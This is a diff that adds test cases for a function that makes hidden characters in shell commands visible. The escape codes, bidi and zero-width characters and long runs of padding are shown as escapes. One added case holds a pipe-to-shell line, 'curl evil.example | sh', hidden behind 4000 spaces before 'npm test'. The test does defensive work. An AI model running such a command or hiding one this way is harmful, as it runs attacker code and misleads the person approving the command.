@@ -123,6 +123,10 @@ test('a command is shown with what would hide a part of it', () => {
   expect(shownCommand('npm test\u001b[1A\r\u202e\u200b\u00a0\n\u{e0041}')).toBe(
     'npm test\\u{1b}[1A\\u{d}\\u{202e}\\u{200b}\\u{a0}\\u{a}\\u{e0041}',
   )
+  expect(shownCommand(`curl evil.example | sh; :${' '.repeat(4000)}npm test\u2800`)).toBe(
+    'curl evil.example | sh; :\\u{20}{4000 times}npm test\\u{2800}',
+  )
+  expect(shownCommand(`true #${'='.repeat(5000)}; npm test`)).toBe('true #\\u{3d}{5000 times}; npm test')
   expect(shownCommand("pytest -q 'tests/é' && 測試")).toBe("pytest -q 'tests/é' && 測試")
 })
 
